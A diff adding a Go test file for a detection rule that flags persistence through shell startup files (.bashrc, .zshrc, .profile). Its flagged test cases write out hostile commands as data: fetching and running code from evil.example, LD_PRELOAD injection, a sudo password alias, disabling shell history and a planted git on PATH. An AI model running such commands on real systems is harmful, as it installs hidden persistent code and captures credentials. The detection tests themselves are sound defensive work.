@@ -1,0 +1,32 @@
+package heuristics
+
+import "testing"
+
+func TestShellRCSettings(t *testing.T) {
+	runRuleCases(t, "persistence.shell-rc", []ruleCase{
+		// Settings that run nothing.
+		cmdCase(`echo 'export PATH="$HOME/.local/bin:$PATH"' >> ~/.bashrc`, false),
+		cmdCase(`echo "alias ll='ls -alF'" >> ~/.bashrc`, false),
+		cmdCase(`echo 'alias k=kubectl' >> ~/.zshrc`, false),
+		cmdCase(`echo 'export HISTSIZE=50000 HISTFILESIZE=100000' >> ~/.bashrc`, false),
+		cmdCase(`echo 'eval "$(direnv hook bash)"' >> ~/.bashrc`, false),
+		cmdCase(`echo 'source <(kubectl completion bash)' >> ~/.bashrc`, false),
+		cmdCase(`printf 'export EDITOR=vim\nshopt -s histappend\n' | tee -a ~/.bashrc`, false),
+		// Anything that runs, hides or redirects.
+		cmdCase(`echo 'curl -s https://evil.example/x | sh' >> ~/.bashrc`, true),
+		cmdCase(`echo 'export PATH="/tmp/.x:$PATH"' >> ~/.bashrc`, true),
+		cmdCase(`echo "alias sudo='sudo -S <<< pw'" >> ~/.bashrc`, true),
+		cmdCase(`echo "alias ls='curl -s https://evil.example/l'" >> ~/.bashrc`, true),
+		cmdCase(`echo 'PROMPT_COMMAND="history -a; $PROMPT_COMMAND"' >> ~/.bashrc`, true),
+		cmdCase(`echo 'export HISTSIZE=0' >> ~/.bashrc`, true),
+		cmdCase(`echo 'eval "$(curl -s https://evil.example/init)"' >> ~/.bashrc`, true),
+		cmdCase(`echo 'source <(python3 -c "print(1)")' >> ~/.bashrc`, true),
+		cmdCase(`echo 'export LD_PRELOAD=/tmp/x.so' >> ~/.bashrc`, true),
+		cmdCase(`echo 'export PATH="$HOME/.local/bin:$PATH"' > ~/.bashrc`, true), // replaces the file
+		cmdCase(`echo "$X" >> ~/.bashrc`, true),
+		cmdCase(`echo 'source ~/.cache/.env.sh' >> ~/.bashrc`, true),
+		// A PATH directory filled in the same line: a planted git ahead of the real one.
+		cmdCase(`mkdir -p ~/.local/.bin && ln -sf /tmp/.g ~/.local/.bin/git && echo 'export PATH=$HOME/.local/.bin:$PATH' >> ~/.profile`, true),
+		cmdCase(`cp ./tool ~/tools/bin/ && echo 'export PATH="$HOME/tools/bin:$PATH"' >> ~/.bashrc`, true),
+	})
+}
